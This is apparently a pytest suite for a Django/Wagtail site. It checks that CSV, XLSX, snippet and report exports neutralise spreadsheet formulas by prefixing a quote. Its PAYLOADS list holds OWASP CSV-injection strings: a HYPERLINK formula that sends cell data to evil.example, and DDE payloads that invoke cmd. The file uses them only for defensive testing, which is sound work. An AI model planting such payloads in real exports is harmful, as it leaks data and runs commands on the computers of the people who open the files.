"""Every CSV or spreadsheet export escapes formulas (hub.spreadsheets), with the OWASP
CSV-injection payloads: the spread register, a snippet listing, a Wagtail report, and the
helper itself (the inbox export has its own test in tests/submissions)."""

import csv
import io

from django.urls import reverse

import pytest
from openpyxl import load_workbook

from demo.factories import (
    AdoptionFactory,
    CaseStudyIndexPageFactory,
    CaseStudyPageFactory,
    OrganisationFactory,
)
from hub.spreadsheets import escape_formula, safe_cell
from tests.conftest import PASSWORD

# OWASP "CSV Injection": each leading character a spreadsheet reads as a formula.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_get_a_leading_quote(payload):
    assert escape_formula(payload) == "'" + payload
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Ward 9", "a=b", "", "O'Brien", "e-mail"])
def test_plain_text_is_left_alone(value):
    assert escape_formula(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, None])
def test_numbers_and_empty_cells_keep_their_type(value):
    assert escape_formula(value) == value
    assert safe_cell(None) == ""


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


@pytest.fixture
def superuser_client(client, django_user_model):
    django_user_model.objects.create_superuser("root", "root@example.org", PASSWORD)
    client.login(username="root", password=PASSWORD)
    return client


@pytest.fixture
def adoptions(home_page, org_a):
    case_study = CaseStudyPageFactory(
        parent=CaseStudyIndexPageFactory(parent=home_page), organisations=[org_a]
    )
    return [
        AdoptionFactory(case_study=case_study, organisation=None, organisation_name=p, team=p)
        for p in PAYLOADS
    ]


def test_spread_register_csv_escapes_every_payload(superuser_client, adoptions):
    rows = read_csv(superuser_client.get(reverse("spread_register:index"), {"export": "csv"}))
    # Columns: case study, organisation, place, team, ...
    teams = {row[3] for row in rows[1:]}
    organisations = {row[1] for row in rows[1:]}
    for payload in PAYLOADS:
        assert "'" + payload in teams
        assert "'" + payload in organisations
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_spread_register_xlsx_stores_payloads_as_text(superuser_client, adoptions):
    response = superuser_client.get(reverse("spread_register:index"), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    for row in sheet.iter_rows(min_row=2):
        team = row[3]  # after the case study, organisation and place
        assert team.data_type == "s", (team.value, team.data_type)


def test_snippet_exports_escape_formulas_too(superuser_client):
    OrganisationFactory(name="=1+1 Trust", website="https://example.org")
    rows = read_csv(
        superuser_client.get(reverse("wagtailsnippets_hub_organisation:list"), {"export": "csv"})
    )
    assert [row[0] for row in rows[1:] if "1+1" in row[0]] == ["'=1+1 Trust"]


def test_wagtail_page_reports_escape_formulas(superuser_client, home_page):
    page = CaseStudyIndexPageFactory(parent=home_page, title="@SUM(1+9)*cmd")
    page.save_revision(user=None, log_action=True).publish()
    report = reverse("wagtailadmin_reports:aging_pages")
    rows = read_csv(superuser_client.get(report, {"export": "csv"}))
    titles = [row[0] for row in rows[1:]]
    assert "'@SUM(1+9)*cmd" in titles
